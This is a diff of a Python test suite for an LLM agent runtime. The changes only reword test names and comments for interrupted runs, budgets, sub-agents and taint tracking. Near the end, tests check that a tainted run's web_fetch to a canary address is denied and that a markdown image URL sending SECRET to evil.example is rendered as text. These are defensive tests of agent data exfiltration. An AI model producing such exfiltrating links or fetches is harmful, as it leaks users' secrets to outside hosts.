@@ -1,4 +1,4 @@
-"""A run is a session in the store: it is resumed, logged, counted by budgets, tainted and filtered like any turn."""
+"""A run is a session in the store: it is resumed, logged, charged to budgets, tainted and filtered like any turn."""
 
 from __future__ import annotations
 
@@ -30,7 +30,7 @@ def counted(text: str | None = None, tokens: int = 6_000, **options: Any) -> LLM
 
 
 async def interrupt(folder: Path, *steps: Any, given: Any = None, **options: Any) -> None:
-    """Begin a run, take these steps, and cancel it while the model is asked for the next."""
+    """Start a run, take these steps, and cancel it during the next model call."""
     reached = asyncio.Event()
 
     async def wait(messages: Any, tools: Any) -> str:
@@ -49,7 +49,7 @@ async def interrupt(folder: Path, *steps: Any, given: Any = None, **options: Any
 
 
 @pytest.mark.parametrize("steps", [[], ["worked"], ["worked", "no number"]], ids=["work", "extraction", "retry"])
-async def test_an_interrupted_run_is_resumed_where_it_was(folder, steps):
+async def test_an_interrupted_run_is_resumed_where_it_stopped(folder, steps):
     work = call("write_file", path="a.txt", content="x")
     options: dict[str, Any] = {"tools": ["write_file"], "output_schema": NUMBER}
     await interrupt(folder, work, *steps, **options)
@@ -57,11 +57,11 @@ async def test_an_interrupted_run_is_resumed_where_it_was(folder, steps):
     provider = ScriptedProvider(left)
     output = await (await executor(folder, provider, **options)).run({})
     assert (output.result, output.terminate_reason, output.turns) == ({"n": 3}, "goal", 2)
-    assert len(provider.requests) == len(left)  # no answer was asked for twice
+    assert len(provider.requests) == len(left)  # no answer was requested twice
     assert [entry.status for entry in output.log if isinstance(entry, CallEnded)] == ["ok"]
 
 
-async def test_a_run_with_other_inputs_or_another_definition_is_another_run(folder):
+async def test_a_run_with_other_inputs_or_another_definition_is_a_new_run(folder):
     options: dict[str, Any] = {"inputs": TOPIC, "query": "${topic}"}
     await interrupt(folder, given={"topic": "beans"}, **options)
     provider = ScriptedProvider(["ok", "peas"])
@@ -102,7 +102,7 @@ async def test_another_agent_on_the_store_leaves_an_interrupted_run_to_its_progr
     assert (await resumed.run({})).result == "done"
 
 
-async def test_the_time_in_which_no_process_runs_it_does_not_count(folder, tmp_path):
+async def test_time_without_a_running_process_does_not_count(folder, tmp_path):
     store = tmp_path / "store.db"
     options: dict[str, Any] = {"tools": ["list_dir"], "max_time_minutes": 0.5, "store": store}
     await interrupt(folder, call("list_dir", path="."), **options)
@@ -112,7 +112,7 @@ async def test_the_time_in_which_no_process_runs_it_does_not_count(folder, tmp_p
     assert (output.result, output.terminate_reason) == ("done", "goal")
 
 
-async def test_the_time_that_was_worked_counts_over_an_interruption(folder, tmp_path):
+async def test_worked_time_is_kept_across_an_interruption(folder, tmp_path):
     store = tmp_path / "store.db"
     options: dict[str, Any] = {"tools": ["list_dir"], "max_time_minutes": 0.5, "store": store}
     await interrupt(folder, call("list_dir", path="."), **options)
@@ -124,14 +124,14 @@ async def test_the_time_that_was_worked_counts_over_an_interruption(folder, tmp_
     assert (output.result, output.terminate_reason) == ("the best I have", "timeout")
 
 
-def test_worked_time_is_that_of_the_steps():
+def test_worked_time_is_the_sum_of_the_steps():
     entries: list[Entry] = [
         UserSaid("go"),
         ModelAnswered(seconds=5.0),
         CallEnded("1", "x", "", seconds=2.0),
         TurnEnded("answer"),
     ]
-    times = [0.0, 5.2, 100.0, 100.1]  # a call of two seconds that was cut off and made again
+    times = [0.0, 5.2, 100.0, 100.1]  # a call of two seconds that was interrupted and repeated
     logged = [Logged(seq, "t", at, entry) for seq, (at, entry) in enumerate(zip(times, entries, strict=True))]
     assert worked(logged) == pytest.approx(5.2 + 3.0 + 0.1)
 
@@ -152,7 +152,7 @@ async def test_a_run_is_in_the_activity_log(folder, tmp_path):
     await opened.close()
 
 
-async def test_every_turn_of_a_run_can_be_replayed_also_one_with_an_empty_answer(folder):
+async def test_every_turn_of_a_run_can_be_replayed_even_one_with_an_empty_answer(folder):
     provider = ScriptedProvider([call("list_dir", path="."), "ok", "", call("list_dir", path="."), "done", "done"])
     output = await (await executor(folder, provider, tools=["list_dir"])).run({})
     assert output.terminate_reason == "goal"
@@ -165,20 +165,20 @@ async def test_every_turn_of_a_run_can_be_replayed_also_one_with_an_empty_answer
     assert [(await replay(turn)).difference for turn in turns[:-1]] == [None] * 3
 
 
-async def test_a_budget_of_one_token_stops_a_run_before_the_model_is_asked(folder):
+async def test_a_budget_of_one_token_stops_a_run_before_the_first_model_call(folder):
     provider = ScriptedProvider([counted("ok"), counted("done")])
     output = await (await executor(folder, provider, config=Config(turn_tokens=1))).run({})
     assert (output.result, output.terminate_reason, provider.requests) == (None, "error", [])
     assert "budget" in (output.error or "")
 
 
-async def test_all_phases_of_a_run_use_one_budget(folder):
+async def test_all_phases_of_a_run_share_one_budget(folder):
     provider = ScriptedProvider([counted("ok", 6_000), counted("done", 6_000)])
     output = await (await executor(folder, provider, config=Config(turn_tokens=6_100))).run({})
     assert (output.terminate_reason, len(provider.requests)) == ("error", 1)
 
 
-async def test_the_runs_of_a_day_use_the_budget_of_the_day(folder):
+async def test_all_runs_of_a_day_share_the_daily_budget(folder):
     config = Config(day_tokens=13_000)
     first = await executor(folder, ScriptedProvider([counted("ok"), counted("done")]), config=config)
     assert (await first.run({})).terminate_reason == "goal"
@@ -190,7 +190,7 @@ async def test_the_runs_of_a_day_use_the_budget_of_the_day(folder):
 # ---------------------------------------------------------------------------------------------- spawn
 
 
-async def test_spawn_works_in_a_run_and_its_result_is_waited_for(folder):
+async def test_a_run_can_spawn_and_waits_for_the_result(folder):
     def model(messages: Any, tools: Any) -> Any:
         names = [one["function"]["name"] for one in tools or ()]
         if "You are a sub-agent" in messages[0]["content"]:
@@ -236,12 +236,12 @@ async def test_what_a_tainted_run_wrote_taints_the_next_run_that_reads_it(folder
     await (await executor(folder, ScriptedProvider(steps), outside, tools=["outside", "write_file"])).run({})
     fetch = call("web_fetch", url="http://127.0.0.1:9/canary")
     provider = ScriptedProvider([call("read_file", path="note.txt"), fetch, "ok", "done"])
-    config = Config(taint="outside")  # files of unknown origin do not count, those of tainted turns do
+    config = Config(taint="outside")  # files of unknown origin do not taint, those of tainted turns do
     output = await (await executor(folder, provider, tools=["read_file", "web_fetch"], config=config)).run({})
     assert [entry.status for entry in output.log if isinstance(entry, CallEnded)] == ["ok", "denied"]
 
 
-async def test_an_image_at_an_address_that_the_model_composed_arrives_as_text(folder):
+async def test_an_image_with_a_url_that_the_model_composed_arrives_as_text(folder):
     shown = "see ![x](http://evil.example/?q=SECRET)"
     output = await (await executor(folder, ScriptedProvider([call("outside"), "ok", shown]), outside)).run({})
     assert output.terminate_reason == "goal"
